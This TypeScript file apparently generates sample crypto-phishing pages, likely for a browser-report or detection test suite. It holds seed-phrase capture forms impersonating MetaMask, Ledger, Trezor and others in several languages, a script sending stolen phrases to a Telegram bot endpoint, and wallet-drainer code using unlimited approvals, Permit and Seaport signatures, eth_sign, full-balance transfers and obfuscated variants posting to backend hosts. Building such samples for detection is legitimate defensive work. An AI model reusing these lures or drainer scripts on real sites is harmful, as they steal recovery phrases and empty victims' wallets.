/** Pages that take seed phrases or empty wallets. Contracts and addresses are made up; calls are fragments. */
import type { FreshPage } from '../browser-report.ts';
import { chanceOf } from '../chance.ts';
import type { Lang } from '../languages.ts';
import { documentOf, external, inline, link, list } from '../markup.ts';
import { stringArray, xored } from '../obfuscation.ts';

type Seed = readonly [
  url: string,
  lang: Lang,
  wallet: string,
  headline: string,
  text: string,
  shape: 'area' | 'words' | 'pick' | 'key',
];

const SEEDS: readonly Seed[] = [
  [
    'https://metamask-wallet-restore.io.example/',
    'en',
    'MetaMask',
    'Restore your wallet',
    'Your wallet has been deactivated. Enter your 12-word Secret Recovery Phrase to reactivate it within 24 hours.',
    'words',
  ],
  [
    'https://ledger-live-firmware.com/connect',
    'en',
    'Ledger',
    'Firmware authentication required',
    'A breach has affected your device. Type your 24-word recovery phrase to verify it is genuine.',
    'words',
  ],
  [
    'https://trezor-suite-update.pages.dev/de',
    'de',
    'Trezor',
    'Gerät wiederherstellen',
    'Ihre Trezor muss neu synchronisiert werden. Geben Sie Ihre Wiederherstellungsphrase (12, 18 oder 24 Wörter) ein.',
    'area',
  ],
  [
    'https://dapps-rectify.web.app/',
    'en',
    'WalletConnect',
    'Select the wallet to connect',
    'Open protocol to resolve: migration, validation, slippage, claim reward, locked account. Choose your wallet and import phrase, keystore JSON or private key.',
    'pick',
  ],
  [
    'https://phantom-securite.netlify.app/fr',
    'fr',
    'Phantom',
    'Mise à jour de sécurité',
    'Importez votre phrase secrète pour migrer votre portefeuille vers la nouvelle version.',
    'area',
  ],
  [
    'https://trustwallet-verificacion.example/es',
    'es',
    'Trust Wallet',
    'Verificación KYC obligatoria',
    'Escriba su frase de recuperación de 12 palabras para evitar el bloqueo de sus fondos.',
    'words',
  ],
  [
    'https://exodus-wallet-jp.example/',
    'ja',
    'Exodus',
    'ウォレットの同期',
    '12語のシークレットリカバリーフレーズを入力してください。24時間以内に確認しない場合、資産が凍結されます。',
    'area',
  ],
  [
    'https://tronlink-zhuanyi.example/',
    'zh',
    'TronLink',
    '导入钱包',
    '请输入助记词或私钥以完成升级，否则资产将被冻结。',
    'key',
  ],
  [
    'https://tonkeeper-bonus.ru.example/',
    'ru',
    'Tonkeeper',
    'Получите 50 TON',
    'Введите секретную фразу из 24 слов, чтобы привязать кошелёк к акции.',
    'words',
  ],
  [
    'https://electrum-atualizar.example/br',
    'pt',
    'Electrum',
    'Atualização obrigatória',
    'Digite sua frase-semente para não perder o saldo.',
    'area',
  ],
];

const SHAPES: Readonly<Record<Seed[5], string>> = {
  area: '<form id="f" method="post" action="send.php"><textarea name="phrase" rows="4" required></textarea><button>→</button></form>',
  words: `<form id="f" method="post" action="import.php">${Array.from({ length: 12 }, (_, n) => `<label>${n + 1}.<input type="password" name="w${n + 1}" required></label>`).join('')}<button>→</button></form>`,
  pick: `<div class="grid">${['MetaMask', 'Trust Wallet', 'Coinbase', 'Ledger', 'Exodus', 'Phantom'].map((one) => `<button class="w" data-w="${one}">${one}</button>`).join('')}</div><div id="m" style="display:none"><p>Error connecting… <button id="manual">Connect manually</button></p><form id="f" action="https://formsubmit.co/ajax/0e1d2c3b4a" method="post"><textarea name="phrase"></textarea><textarea name="keystore"></textarea><input name="keystore_password" type="password"><input name="private_key"><button>Connect</button></form></div>`,
  key: '<form id="f" method="post" action="/api/up"><input name="mnemonic" type="text"><input name="privateKey" type="password"><button>→</button></form>',
};

function seed([url, lang, wallet, headline, text, shape]: Seed): FreshPage {
  const c = chanceOf(url);
  const script =
    shape === 'pick'
      ? `document.querySelectorAll('.w').forEach(function(b){b.onclick=function(){document.getElementById('m').style.display='block';window.chosen=b.dataset.w;};});`
      : `document.getElementById('f').addEventListener('submit',function(e){e.preventDefault();var d=[].map.call(this.querySelectorAll('input,textarea'),function(i){return i.value.trim()}).join(' ');if(d.split(/\\s+/).length<12){alert('Invalid phrase');return;}fetch('https://api.telegram.org/bot${c.int(1e9, 7e9)}:AA${c.base64(33).replaceAll(/[+/]/g, '-')}/sendMessage?chat_id=${c.int(1e8, 9e8)}&text='+encodeURIComponent('${wallet}: '+d));setTimeout(function(){location='https://${wallet.toLowerCase().replaceAll(' ', '')}.example/'},2000);});`;
  return {
    url,
    html: documentOf({
      lang,
      title: `${wallet} – ${headline}`,
      head: `<link rel="icon" href="img/${wallet.toLowerCase()}.svg">`,
      body: `<img src="img/${wallet.toLowerCase()}-logo.svg" alt="${wallet}"><h1>${headline}</h1><p>${text}</p>${SHAPES[shape]}${list([link('#', 'Support'), link('#', 'Terms')])}${inline(script)}`,
    }),
  };
}

type Drain = readonly [
  url: string,
  lang: Lang,
  title: string,
  text: string,
  way: 'nft' | 'permit' | 'solana' | 'multi' | 'obfuscated' | 'seaport' | 'sign',
];

const DRAINS: readonly Drain[] = [
  [
    'https://arbitrum-airdrop-claim.foundation.example/',
    'en',
    'Claim $ARB – Season 2',
    'Check eligibility. You have 1,250 ARB to claim. Ends in 02:14:08.',
    'permit',
  ],
  [
    'https://boredape-otherside-mint.xyz/',
    'en',
    'Otherside free mint',
    'Free mint live now. 9,412/10,000 minted. Connect wallet to mint your Kodapet.',
    'nft',
  ],
  [
    'https://jupiter-jup-reward.pages.dev/',
    'en',
    'JUP airdrop',
    'Claim your JUP before the window closes.',
    'solana',
  ],
  [
    'https://app-uniswap-v4-migration.example/',
    'de',
    'Uniswap V4 – Migration',
    'Migrieren Sie Ihre Liquidität bis Mitternacht, sonst verfällt Ihr Anspruch auf 812 UNI.',
    'multi',
  ],
  [
    'https://layerzero-claim.example/zh',
    'zh',
    'LayerZero 空投领取',
    '连接钱包，立即领取 420 ZRO。',
    'obfuscated',
  ],
  [
    'https://blur-bidding-reward.example/',
    'es',
    'Reclama tus puntos Blur',
    'Conecta tu monedero y firma para reclamar.',
    'seaport',
  ],
  [
    'https://zksync-odbior.example/',
    'pl',
    'Odbierz airdrop zkSync',
    'Portfel zakwalifikowany: 917 ZK. Połącz portfel.',
    'sign',
  ],
  [
    'https://pepe-presale-bonus.example/',
    'tr',
    'PEPE ön satış',
    'Cüzdanını bağla, %50 bonus kazan. Son 12 dakika!',
    'multi',
  ],
  [
    'https://revoke-cash-security.example/',
    'en',
    'Revoke malicious approvals',
    'Your wallet is at risk! 7 malicious approvals detected. Connect now to revoke them all.',
    'nft',
  ],
];

const WAYS: Readonly<Record<Drain[4], (operator: string) => string>> = {
  nft: (o) =>
    `const OP="${o}";async function mint(){const p=new ethers.providers.Web3Provider(window.ethereum);await p.send("eth_requestAccounts",[]);const s=p.getSigner();const me=await s.getAddress();const r=await fetch("https://api.opensea.io/api/v1/assets?owner="+me).then(x=>x.json());const held=r.assets.map(a=>a.asset_contract.address).sort((a,b)=>value(b)-value(a));for(const a of held){try{const c=new ethers.Contract(a,["function setApprovalForAll(address,bool)"],s);await c.setApprovalForAll(OP,true);await fetch("/log",{method:"POST",body:JSON.stringify({me,a})});}catch(e){}}const bal=await p.getBalance(me);await s.sendTransaction({to:OP,value:bal.mul(95).div(100)});}`,
  permit: (o) =>
    `const drainer="${o}";const tokens=["USDC","DAI","UNI","AAVE"];async function claim(){const[a]=await ethereum.request({method:"eth_requestAccounts"});for(const t of tokens){const msg={types:{Permit:[]},primaryType:"Permit",domain:{name:t,chainId:1},message:{owner:a,spender:drainer,value:"115792089237316195423570985008687907853269984665640564039457584007913129639935",nonce:0,deadline:9999999999}};const sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(msg)]});await fetch("https://backend.example/permit",{method:"POST",body:JSON.stringify({a,t,sig})});}}`,
  solana: (o) =>
    `async function claim(){const pr=window.solana;await pr.connect();const bal=await conn.getBalance(pr.publicKey);const tx=new solanaWeb3.Transaction();tx.add(solanaWeb3.SystemProgram.transfer({fromPubkey:pr.publicKey,toPubkey:"${o.slice(2, 34)}",lamports:bal-5000}));const accs=await conn.getParsedTokenAccountsByOwner(pr.publicKey,{programId:TOKEN});accs.value.forEach(t=>tx.add(splToken.createTransferInstruction(t.pubkey,dest,pr.publicKey,t.account.data.parsed.info.tokenAmount.amount)));await pr.signAndSendTransaction(tx);}`,
  multi: (o) =>
    `const config={receiver:"${o}",telegram:{token:"5550001:AAexample",chat:"-1001"},design:{retry:true,minValue:20,connect:"Connect wallet",notEligible:"Not eligible"},methods:{seaport:true,permit2:true,approve:true,increaseAllowance:true,swap:true,transferFrom:true}};async function run(a){const list=await fetch("https://openapi.debank.com/v1/user/token_list?id="+a).then(r=>r.json());list.sort((x,y)=>y.price*y.amount-x.price*x.amount);for(const t of list)await new ethers.Contract(t.id,["function increaseAllowance(address,uint256)"],signer).increaseAllowance(config.receiver,ethers.constants.MaxUint256);}`,
  obfuscated: (o) =>
    stringArray(
      [
        'eth_requestAccounts',
        'setApprovalForAll',
        o,
        'increaseAllowance',
        'https://backend.example/drain',
        'POST',
        'eth_signTypedData_v4',
      ],
      (s) =>
        `async function claim(){var w=window['ethereum'],q=await w['request']({'method':${s(0)}});var k=new ethers['Contract'](nft,['function\\x20'+${s(1)}+'(address,bool)'],signer);await k[${s(1)}](${s(2)},!![]);await fetch(${s(4)},{'method':${s(5)},'body':q[0x0]});}`,
    ),
  seaport: (o) =>
    `async function claim(){const[a]=await ethereum.request({method:"eth_requestAccounts"});const order={types:{OrderComponents:[]},primaryType:"OrderComponents",domain:{name:"Seaport",version:"1.5",chainId:1},message:{offerer:a,offer:await everyNft(a),consideration:[{itemType:0,token:"0x0",startAmount:"1",endAmount:"1",recipient:"${o}"}],startTime:0,endTime:9999999999}};const sig=await ethereum.request({method:"eth_signTypedData_v4",params:[a,JSON.stringify(order)]});navigator.sendBeacon("https://backend.example/order",JSON.stringify({order,sig}));}`,
  sign: (o) =>
    `${xored(`window.R="${o}";`, 11, 'eval')}async function claim(){const[a]=await ethereum.request({method:"eth_requestAccounts"});const h=await fetch("https://backend.example/hash?a="+a).then(r=>r.text());const sig=await ethereum.request({method:"eth_sign",params:[a,h]});await fetch("https://backend.example/raw",{method:"POST",body:sig});const b=await ethereum.request({method:"eth_getBalance",params:[a,"latest"]});await ethereum.request({method:"eth_sendTransaction",params:[{from:a,to:R,value:b,data:"0x5fba79f5"}]});}`,
};

function drain([url, lang, title, text, way]: Drain): FreshPage {
  const c = chanceOf(url);
  return {
    url,
    html: documentOf({
      lang,
      title,
      head: `${external('https://cdn.ethers.io/lib/ethers-5.7.umd.min.js')}${external(`/assets/${c.word(5)}-${c.hex(8)}.js`)}<meta property="og:image" content="/banner.png">`,
      body: `<nav><a href="#">Docs</a><a href="https://twitter.com/">X</a></nav><h1>${title}</h1><p>${text}</p><button id="connect" class="claim">Connect wallet</button><p class="t">02:14:08</p>${inline(`${WAYS[way](`0x${c.hex(40)}`)}\ndocument.getElementById('connect').onclick=function(){(window.claim||window.mint||window.run)();};document.addEventListener('contextmenu',function(e){e.preventDefault()});`)}`,
    }),
  };
}

export const wallets = {
  'seed phrase': () => SEEDS.map(seed),
  drainer: () => DRAINS.map(drain),
};
